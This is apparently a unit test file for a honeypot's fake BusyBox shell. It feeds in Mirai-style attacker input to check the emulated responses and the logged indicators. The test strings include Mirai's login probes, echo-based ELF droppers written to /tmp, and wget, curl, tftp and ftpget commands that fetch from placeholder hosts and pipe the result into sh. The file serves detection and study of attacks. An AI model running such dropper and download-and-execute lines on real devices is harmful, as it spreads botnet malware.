/* test_shell.c: the fake shell with the generic persona's data (a BusyBox
 * 1.35 ARMv7 box): the Mirai login sequence, an echo dropper, downloads,
 * the parser, prompts, limits; echo and error texts against the real
 * BusyBox when one is installed (tools/deps.sh test installs it). */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "emu_ctx.h"
#include "event.h"
#include "json.h"
#include "lure.h"
#include "persona.h"
#include "shell.h"
#include "unit.h"

static struct shell sh;
static struct emu_ctx ctx;
static uint8_t out[SHELL_OUT + 1];
static size_t outlen;
static char ev[EVENT_LINE_MAX + 1];
static enum shell_result res;

static int
generic(void)
{
	/* the expectations below are the generic persona's data */
	if (strcmp(persona_name, "generic") == 0)
		return 1;
	printf("  (persona %s: generic-only checks skipped)\n", persona_name);
	return 0;
}

static void
start(const char *user)
{
	struct event_identity id = {
	        "s1", "host", "generic", "00ff00ff00ff00ff"};

	lure_clock_fix(1767323045000LL);
	event_setup(&id);
	memset(&ctx, 0, sizeof ctx);
	memset(&sh, 0xa5, sizeof sh); /* shell_init must not rely on zeroes */
	shell_init(&sh, user, strlen(user));
}

/* Run one line; the output (NUL-terminated) and the event's JSON in ev. */
static const char *
run_n(const char *line, size_t n, size_t cap)
{
	struct event *e = event_begin("command", "telnet");
	size_t k;

	memset(out, 0xee, sizeof out);
	res = shell_run(
	        &sh, &ctx, e, (const uint8_t *)line, n, out, cap, &outlen);
	k = event_encode(e, ev, sizeof ev - 1, 1);
	ev[k] = 0;
	event_discard(e);
	out[outlen] = 0;
	return (const char *)out;
}

static const char *
run(const char *line)
{
	return run_n(line, strlen(line), SHELL_OUT);
}

static int
has(const char *s)
{
	return strstr(ev, s) != NULL;
}

static void
test_mirai(void)
{
	const struct persona_file *mounts = persona_file("fs/proc/mounts");
	long mach = persona_int("shell.elf.machine", -1);

	if (!generic())
		return;
	start("root");
	/* the bot's probes for a CLI: ash has none of them */
	CHECK_STR(run("enable"), "-sh: enable: not found\n");
	CHECK(res == SHELL_CONT && sh.last_status == 127);
	CHECK(has("\"command\":\"enable\""));
	CHECK_STR(run("system"), "-sh: system: not found\n");
	CHECK_STR(run("shell"), "-sh: shell: not found\n");
	CHECK_STR(run("sh"), "");
	CHECK(sh.depth == 1);
	CHECK_STR(run("/bin/busybox ECCHI"), "ECCHI: applet not found\n");
	CHECK(sh.last_status == 127);
	CHECK_STR(run("busybox MIRAI"), "MIRAI: applet not found\n");
	CHECK(mounts != NULL);
	CHECK(strlen(run("/bin/busybox cat /proc/mounts")) == mounts->len);
	CHECK(memcmp(out, mounts->data, mounts->len) == 0);
	CHECK_STR(run("echo -e '\\x41\\x4b\\x34\\x37'"), "AK47\n");
	CHECK_STR(run("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > "
	              "/dev/.nippon; /bin/busybox cat /dev/.nippon"),
	        "kami\n");
	CHECK_STR(run("cd /nonexistent || cd /var/run"),
	        "-sh: cd: can't cd to /nonexistent: No such file or "
	        "directory\n");
	CHECK_STR(sh.cwd, "/var/run");
	CHECK_STR(run("cd /tmp || cd /var/run"), "");
	CHECK_STR(sh.cwd, "/tmp");
	/* the CPU: an ELF header with the persona's class, data, machine */
	run("cat /bin/echo");
	CHECK(outlen > 52 && memcmp(out, "\177ELF", 4) == 0);
	CHECK(out[4] == 1 && out[5] == 1 && out[6] == 1);
	CHECK(mach == 40 && out[18] == (mach & 0xff) && out[19] == 0);
	CHECK(out[36] == 0x00 && out[37] == 0x04 && out[38] == 0x00 &&
	        out[39] == 0x05); /* e_flags 0x05000400 */
	CHECK(out[28] == 52 && out[42] == 32); /* e_phoff, e_phentsize */
	{
		/* PT_INTERP names the persona's loader */
		const char *interp = persona_get("shell.elf.interp", NULL);
		CHECK(interp && memmem(out, outlen, interp, strlen(interp)));
	}
	CHECK_STR(run("dd bs=52 count=1 if=/bin/echo || cat /bin/echo") + 52,
	        "1+0 records in\n1+0 records out\n");
	CHECK(outlen == 52 + 31 && memcmp(out, "\177ELF\1\1\1", 7) == 0);
	/* the loader's probe for download tools: usage, not "not found" */
	run("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
	CHECK(strstr((char *)out, "multi-call binary.\n\nUsage: wget [-cqS]"));
	CHECK(strstr((char *)out, "\nUsage: tftp [OPTIONS] HOST [PORT]\n"));
	CHECK(strstr((char *)out, "\nECCHI: applet not found\n"));
	CHECK(!has("download") && !has("url"));
	/* the download: recorded, never fetched; the pipe's sh reads nothing */
	CHECK_STR(run("wget http://1.2.3.4/x.sh -O- | sh"),
	        "Connecting to 1.2.3.4:80 (1.2.3.4:80)\n"
	        "wget: can't connect to remote host (1.2.3.4): Connection "
	        "refused\n");
	CHECK(sh.depth == 1);
	CHECK(has("\"indicators\":{\"ip\":[\"1.2.3.4\"],\"url\":[\"http://"
	          "1.2.3.4/x.sh\"]}"));
	CHECK(has("\"tags\":[\"download\"]"));
	/* exit leaves the nested sh, then the session */
	CHECK_STR(run("exit"), "");
	CHECK(res == SHELL_CONT && sh.depth == 0);
	run("exit");
	CHECK(res == SHELL_EXIT);
}

static void
test_dropper(void)
{
	if (!generic())
		return;
	start("root");
	CHECK_STR(run("cd /tmp; >.d; /bin/busybox echo -ne "
	              "'\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' >> .d"),
	        "");
	CHECK_STR(run("echo -ne '\\x00\\x00' >> .d; ./.d"),
	        "-sh: ./.d: Permission denied\n");
	CHECK(!has("file"));
	run("ls -l /tmp/.d");
	CHECK(strstr((char *)out, "-rw-r--r--") && strstr((char *)out, " 9 "));
	CHECK_STR(run("chmod 777 .d; ./.d; echo $?"),
	        "Segmentation fault\n139\n");
	CHECK(has(
	        "\"file\":{\"hash\":{\"md5\":\"804f18c855f995ad5005efcb8d0d"
	        "4724\",\"sha1\":\"eff06d5dba70edaff9a9f409d6772b6c1b39eb7c\"}"
	        ",\"path\":\"/tmp/.d\",\"size\":9}"));
	CHECK(has("\"tags\":[\"dropper\"]"));
	CHECK_STR(run("echo $?"), "0\n");
	/* Mirai's loader: copy a binary, empty it, fill it */
	CHECK_STR(run("cp /bin/busybox dvrHelper; >dvrHelper; "
	              "echo -ne '\\x7fELF' >> dvrHelper; ls"),
	        "dvrHelper\n");
	run("./dvrHelper");
	CHECK(has("\"size\":4") && has("\"path\":\"/tmp/dvrHelper\""));
	/* a script the attacker wrote runs, its downloads are recorded */
	run("echo 'tftp -g -r m 203.0.113.9;exit' > s; sh s; echo done");
	CHECK_STR((char *)out, "tftp: timeout\ndone\n");
	CHECK(has("tftp://203.0.113.9/m") && has("\"203.0.113.9\""));
	CHECK(res == SHELL_CONT);
	/* files move in the pool as they grow; an empty one has no place */
	CHECK_STR(
	        run("rm -f s; >a; echo 1234 > b; echo 5678 > c; rm b; echo xy "
	            ">> a; echo z >> c; >b; rm c; echo q >> b; cat a b"),
	        "xy\nq\n");
	run("rm a b");
	/* rm takes them away */
	CHECK_STR(run("rm -f s dvrHelper .d; ls -a"), ".   ..\n");
}

static void
test_downloads(void)
{
	if (!generic())
		return;
	start("root");
	CHECK_STR(run("cd /tmp && wget http://bad.example.com/a.arm7 && chmod "
	              "+x a.arm7 && ./a.arm7"),
	        "wget: bad address 'bad.example.com'\n");
	CHECK(has("\"url\":[\"http://bad.example.com/a.arm7\"]"));
	CHECK(!has("\"ip\""));
	run("tftp -g -l x -r bins/y.mips 198.51.100.2 6969; ftpget -u a -p b "
	    "192.0.2.9 z.sh /pub/z.sh");
	CHECK(has("\"url\":[\"tftp://198.51.100.2:6969/bins/y.mips\",\"ftp://"
	          "192.0.2.9/pub/z.sh\"]"));
	CHECK(has("\"ip\":[\"198.51.100.2\",\"192.0.2.9\"]"));
	CHECK_STR((char *)out,
	        "tftp: timeout\nftpget: can't connect to remote host "
	        "(192.0.2.9): Connection refused\n");
	/* curl is not on this box */
	CHECK_STR(run("curl -s http://192.0.2.1/a | sh"),
	        "-sh: curl: not found\n");
	CHECK(has("\"url\":[\"http://192.0.2.1/a\"]") && !has("download"));
	/* a URL only in text is still an indicator */
	run("echo http://203.0.113.5:8080/x");
	CHECK(has("\"url\":[\"http://203.0.113.5:8080/x\"]"));
}

static void
test_parser(void)
{
	if (!generic())
		return;
	start("root");
	CHECK_STR(run("echo \"a  b\" 'c d'\\ e \"$HOME\"x '$HOME'"),
	        "a  b c d e /rootx $HOME\n");
	/* substitutions run our own commands (a level down) */
	CHECK_STR(run("echo $(id)x`uname`y \"$(echo a; echo b)\" $((1+2))"),
	        LURE_SHELL_LANG ? "uid=0(root) gid=0(root) groups=0(root),"
	                          "10(wheel)xLinuxy a\nb 3\n"
	                        : "uid=0(root) gid=0(root) groups=0(root),"
	                          "10(wheel)xLinuxy a\nb \n");
	CHECK_STR(run("wget http://198.51.100.4/bins/$(uname -m) -q"),
	        "Connecting to 198.51.100.4:80 (198.51.100.4:80)\nwget: can't "
	        "connect to remote host (198.51.100.4): Connection refused\n");
	CHECK(has("\"http://198.51.100.4/bins/armv7l\""));
	CHECK_STR(
	        run("false && echo no || echo yes; true || echo no"), "yes\n");
	CHECK_STR(run("echo a ;; echo b"),
	        "-sh: syntax error: unexpected \";;\"\n");
	CHECK(sh.last_status == 2);
	CHECK_STR(run("| cat"), "-sh: syntax error: unexpected \"|\"\n");
	CHECK_STR(run("echo hi >"), "-sh: syntax error: unexpected newline\n");
	CHECK_STR(run("echo hi > /dev/null; echo ok # comment"), "ok\n");
	CHECK_STR(run("cat /nonexistent 2>/dev/null; echo $?"), "1\n");
	CHECK_STR(run("echo hi > /nonexistent/x"),
	        "-sh: can't create /nonexistent/x: nonexistent directory\n");
	CHECK_STR(run("cat /etc/nothere /etc 2>/dev/null | cat; ls /nothere"),
	        "ls: /nothere: No such file or directory\n");
	/* pipes carry stdout (and 2>&1) to the filters */
	CHECK_STR(run("cat /etc/nothere 2>&1 | wc -l"), "1\n");
	CHECK_STR(
	        run("cat /proc/cpuinfo | grep -c processor; cat /proc/cpuinfo "
	            "| grep 'model name' | head -n 1"),
	        "2\nmodel name\t: ARMv7 Processor rev 5 (v7l)\n");
	CHECK_STR(run("busybox | head -1 | tail -c 12"), "all binary.\n");
	CHECK_STR(run("echo 'echo a b; uname' | sh | wc"),
	        "        2         3        10\n");
	CHECK_STR(run("grep -v -i ROOT /etc/passwd | grep -i nobody | cat"),
	        "nobody:x:65534:65534:nobody:/home:/bin/false\n");
	CHECK_STR(run("foo"), "-sh: foo: not found\n");
	CHECK_STR(run("./foo"), "-sh: ./foo: not found\n");
	CHECK_STR(run("/etc"), "-sh: /etc: Permission denied\n");
	CHECK_STR(run("cd /etc/passwd"),
	        "-sh: cd: can't cd to /etc/passwd: Not a directory\n");
	CHECK_STR(run("cd /proc/../etc/./; pwd; cd; pwd; cd -"),
	        "/etc\n/root\n/etc\n");
	CHECK_STR(run("echo -n a; echo -e 'b\\tc\\0101\\x4g\\c'; echo z"),
	        "ab\tcA\x04gz\n");
	CHECK_STR(run("echo -x -n"), "-x -n\n");
	CHECK_STR(run("dd if=/proc/version of=/tmp/v bs=5 count=2 skip=1; cat "
	              "/tmp/v; dd if=/tmp/v bs=3 count=99999999999"),
	        "2+0 records in\n2+0 records out\n version 5 version 53+1 "
	        "records in\n3+1 records out\n");
	CHECK_STR(run("uname -a"),
	        "Linux localhost 5.4.61 #1 SMP PREEMPT Tue Mar 14 09:31:07 UTC "
	        "2023 armv7l GNU/Linux\n");
	CHECK_STR(run("uname; uname -m -r; uname -p"),
	        "Linux\n5.4.61 armv7l\nunknown\n");
	CHECK_STR(run("id; whoami; nproc"),
	        "uid=0(root) gid=0(root) groups=0(root),10(wheel)\nroot\n2\n");
	CHECK_STR(run("kill 1; kill 4242"),
	        "sh: can't kill pid 4242: No such process\n");
	/* a NUL and controls are bytes like any other */
	CHECK_STR(run_n("echo a\0b", 8, SHELL_OUT), "a\0b\n" + 0);
	CHECK(outlen == 4 && out[1] == 0 &&
	        has("\"command\":\"echo a\\u0000b\""));
}

static void
test_ls_and_prompt(void)
{
	char p[128];
	size_t n;

	if (!generic())
		return;
	start("root");
	n = shell_prompt(&sh, &ctx, p, sizeof p);
	CHECK(n == 18 && memcmp(p, "root@localhost:~# ", 18) == 0);
	run("cd /proc");
	n = shell_prompt(&sh, &ctx, p, sizeof p);
	CHECK(n == 22 && memcmp(p, "root@localhost:/proc# ", 22) == 0);
	CHECK(shell_prompt(&sh, &ctx, p, 5) == 5);
	start("admin");
	ctx.hostname = "cam7";
	CHECK_STR(sh.cwd, "/home/admin");
	n = shell_prompt(&sh, &ctx, p, sizeof p);
	CHECK(n == 14 && memcmp(p, "admin@cam7:~$ ", 14) == 0);
	CHECK_STR(run("id"),
	        "uid=1000(admin) gid=1000(admin) groups=1000(admin)\n");
	ctx.hostname = NULL;
	/* columns of the widest name + 2 on 80, filled down first */
	CHECK_STR(run("ls /"),
	        "bin   dev   etc   home  lib   mnt   proc  root  "
	        "sbin  sys   tmp   usr   var\n");
	CHECK_STR(run("ls /proc /nothere"),
	        "ls: /nothere: No such file or directory\n/proc:\ncpuinfo  "
	        "mounts   version\n");
	CHECK_STR(run("ls /etc/group /proc/version /proc"),
	        "/etc/group     /proc/version\n\n/proc:\ncpuinfo  mounts   "
	        "version\n");
	CHECK(strstr(run("ls -l /etc"), "-rw-r--r--    1 root     root"));
	CHECK(strstr(run("ls /bin"), "busybox"));
	CHECK(strstr(run("busybox"),
	              "BusyBox v1.35.0 (2023-03-14 09:12:41 UTC) "
	              "multi-call binary.\n") == (char *)out);
	CHECK(strstr(run("busybox --list"), "\nwget\nwhoami\n"));
}

static void
test_limits(void)
{
	static char big[3 * SHELL_LINE];
	char cmd[64];

	if (!generic())
		return;
	start("root");
	/* output is cut at cap (and at SHELL_OUT) */
	run_n("cat /proc/cpuinfo", 17, 100);
	CHECK(outlen == 100 && out[100] == 0);
	run("cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo");
	CHECK(outlen == SHELL_OUT);
	/* a line over SHELL_LINE is cut and flagged */
	memset(big, 'e', sizeof big);
	memcpy(big, "echo ", 5);
	run_n(big, sizeof big, SHELL_OUT);
	CHECK(outlen == SHELL_LINE - 5 + 1 && has("\"truncated\":true"));
	/* the file table is bounded; writes past the pool are counted */
	run("cd /tmp");
	for (int i = 0; i < 10; i++) {
		snprintf(cmd, sizeof cmd, "echo %d > f%d", i, i);
		run(cmd);
	}
	CHECK(strstr(run("echo x > g"), "can't create"));
	run("rm f0 f1 f2 f3 f4 f5; touch big; chmod +x big");
	for (int i = 0; i < 20; i++)
		run("echo -n "
		    "0123456789012345678901234567890123456789012345678901234567"
		    "890123456789012345678901234567890123456789 >> big");
	run("./big");
	CHECK(has("\"size\":2000") && !has("md5"));
	/* nesting is bounded */
	for (int i = 0; i < 20; i++)
		run("sh");
	CHECK(sh.depth == 8);
	run("sh -c 'sh -c \"sh -c \\\"sh -c uname\\\"\"'");
	CHECK_STR((char *)out, "");
	CHECK_STR(run("sh -c 'sh -c uname'"), "Linux\n");
	/* sleep: the caller waits the sum, whole seconds, SHELL_SLEEP_MAX */
	run("sleep 1 2; echo x; sleep 3");
	CHECK(sh.sleep_ms == 6000);
	run("sleep 1.5");
	CHECK(sh.sleep_ms == 1000);
	run("sleep 99999999999; sleep 9");
	CHECK(sh.sleep_ms == SHELL_SLEEP_MAX);
	run("echo");
	CHECK(sh.sleep_ms == 0);
}

/* echo -ne and error texts: ours against the real BusyBox */
static const char *
busybox(void)
{
	static const char *const where[] = {
	        "build/deps/busybox-static/bin/busybox", "/bin/busybox",
	        "/usr/bin/busybox"};
	for (size_t i = 0; i < sizeof where / sizeof where[0]; i++)
		if (access(where[i], X_OK) == 0)
			return where[i];
	return NULL;
}

static size_t
real(const char *bb, const char *args, uint8_t *buf, size_t cap)
{
	char cmd[1024];
	FILE *f;
	size_t n;

	snprintf(cmd, sizeof cmd, "%s %s 2>&1", bb, args);
	f = popen(cmd, "r");
	if (!f)
		return (size_t)-1;
	n = fread(buf, 1, cap, f);
	pclose(f);
	return n;
}

static void
test_busybox_echo(void)
{
	static const char alpha[] = "\\\\\\\\01234567x89abcefnrtvAZ \"$";
	const char *bb = busybox();
	uint32_t x = 12345;
	uint8_t want[512];

	if (!generic())
		return;
	if (!bb) {
		printf("  (no busybox: echo differential skipped)\n");
		return;
	}
	start("root");
	for (int t = 0; t < 300; t++) {
		char s[40], line[80], args[120];
		size_t n = 1 + t % 30, k;
		for (size_t i = 0; i < n; i++) {
			x = x * 1103515245u + 12345u;
			s[i] = alpha[(x >> 16) % (sizeof alpha - 1)];
		}
		s[n] = 0;
		snprintf(line, sizeof line, "echo -ne '%s'", s);
		snprintf(args, sizeof args, "echo -ne '%s'", s);
		k = real(bb, args, want, sizeof want);
		run(line);
		if (k != outlen || memcmp(want, out, k) != 0) {
			printf("  echo -ne '%s': busybox %zu bytes, ours %zu\n",
			        s, k, outlen);
			CHECK(0);
		}
	}
}

static void
test_busybox_errors(void)
{
	/* applet messages byte for byte; ash's own with its "-sh" name */
	static const char *const lines[] = {"cat /nonexistent", "cat /etc",
	        "ls /nonexistent", "rm /nonexistent", "chmod +x /nonexistent",
	        "cp /nonexistent /tmp/x", "mkdir /nonexistent/x", "mkdir /tmp",
	        "touch /nonexistent/x", "dd if=/nonexistent",
	        "head /nonexistent", "ECCHI", "uname -p", "kill"};
	const char *bb = busybox();
	uint8_t want[512];

	if (!generic())
		return;
	if (!bb) {
		printf("  (no busybox: error differential skipped)\n");
		return;
	}
	start("root");
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		char line[80];
		size_t k = real(bb, lines[i], want, sizeof want);
		snprintf(line, sizeof line, "busybox %s", lines[i]);
		run(line);
		if (k != outlen || memcmp(want, out, k) != 0) {
			printf("  %s: busybox '%.*s', ours '%s'\n", line,
			        (int)k, (char *)want, (char *)out);
			CHECK(0);
		}
	}
}

/* Lines whose stdout and stderr only depend on the parser and on echo,
 * true, false, cat, head, tail, wc, grep: run by the real BusyBox ash
 * (with those applets first in PATH) and by us. */
static void
test_busybox_parser(void)
{
	static const char *const lines[] = {
	        "echo \"a  b\" 'c d'\\ e \"x\\\"y\" 'q\\n' \\$HOMEx",
	        "false && echo no || echo yes; true || echo no; echo $?",
	        "false; echo $?; true; echo $?",
	        "echo a; echo b # c; echo d",
	        "echo a#b '#c' #d",
	        "echo -n x; echo -e 'y\\tz' | cat",
	        "printf x; echo a | wc -l; echo a b c | wc -w",
	        "echo one; echo two | head -n 1 | tail -n 1",
	        "echo a >/dev/null; echo b 2>/dev/null; echo c",
	        "nothere 2>/dev/null || echo failed $?",
	        "echo 'l1\nl2' | grep l2",
	        "echo \"$(echo hidden)\" `echo also` x",
	        "echo a ;; echo b",
	        "echo a && && echo b",
	        "| echo x",
	        "echo >",
	        "echo \"\\$ \\` \\\\ \\a\"",
	        "  echo   spaced    out  ",
	        "echo a|cat|cat|wc -c",
	};
	const char *bb = busybox();
	char dir[] = "/tmp/lure-shell-XXXXXX", script[64], cmd[256];
	char target[4096];
	uint8_t want[512];

	if (!generic())
		return;
	if (!bb || !mkdtemp(dir)) {
		printf("  (no busybox: parser differential skipped)\n");
		return;
	}
	CHECK(realpath(bb, target) != NULL);
	/* the applets first in PATH, as on the device */
	static const char *const applets[] = {
	        "cat", "head", "tail", "wc", "grep", "true", "false"};
	for (size_t i = 0; i < sizeof applets / sizeof applets[0]; i++) {
		char link[96];
		snprintf(link, sizeof link, "%s/%s", dir, applets[i]);
		CHECK(symlink(target, link) == 0);
	}
	snprintf(script, sizeof script, "%s/line", dir);
	start("root");
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		FILE *f = fopen(script, "w");
		size_t k;
		CHECK(f != NULL);
		fputs(lines[i], f);
		fputc('\n', f); /* typed: the line ends */
		fclose(f);
		snprintf(cmd, sizeof cmd, "PATH=%s %s sh %s 2>&1", dir, bb,
		        script);
		f = popen(cmd, "r");
		CHECK(f != NULL);
		k = fread(want, 1, sizeof want - 1, f);
		pclose(f);
		want[k] = 0;
		run(lines[i]);
		/* ash names itself "sh: line 1:" reading a file, "-sh:" at a
		 * login prompt: compare what follows */
		{
			char *w = (char *)want, *o = (char *)out;
			char *l1 = strstr(w, ": line ");
			if (l1 && strstr(l1 + 7, ": ") &&
			        strncmp(o, "-sh: ", 5) == 0) {
				w = strstr(l1 + 7, ": ") + 2;
				o += 5;
			}
			if (strcmp(w, o) != 0) {
				printf("  %s: busybox '%s', ours '%s'\n",
				        lines[i], (char *)want, (char *)out);
				CHECK(0);
			}
		}
	}
	for (size_t i = 0; i < sizeof applets / sizeof applets[0]; i++) {
		char link[96];
		snprintf(link, sizeof link, "%s/%s", dir, applets[i]);
		unlink(link);
	}
	unlink(script);
	rmdir(dir);
}

static void
test_events_valid(void)
{
	static const char *const lines[] = {"echo \"\xff\xfe\x01\"",
	        "wget http://\x80\x81/\"\\", "echo '", "tftp -r \"\" \"\"",
	        "cd /tmp; echo -ne '\\x7f' > \"\x01\xff\"; chmod +x \x01\xff; "
	        "./\x01\xff"};

	start("root");
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		run(lines[i]);
		CHECK(json_check(ev, strlen(ev) - 1) == -1);
	}
	/* no event: NULL is fine */
	CHECK(shell_run(&sh, &ctx, NULL, (const uint8_t *)"wget 1.2.3.4", 12,
	              out, SHELL_OUT, &outlen) == SHELL_CONT);
}

const struct unit_test unit_shell[] = {
        {"mirai", test_mirai},
        {"dropper", test_dropper},
        {"downloads", test_downloads},
        {"parser", test_parser},
        {"ls_and_prompt", test_ls_and_prompt},
        {"limits", test_limits},
        {"busybox_echo", test_busybox_echo},
        {"busybox_errors", test_busybox_errors},
        {"busybox_parser", test_busybox_parser},
        {"events_valid", test_events_valid},
        {0, 0},
};
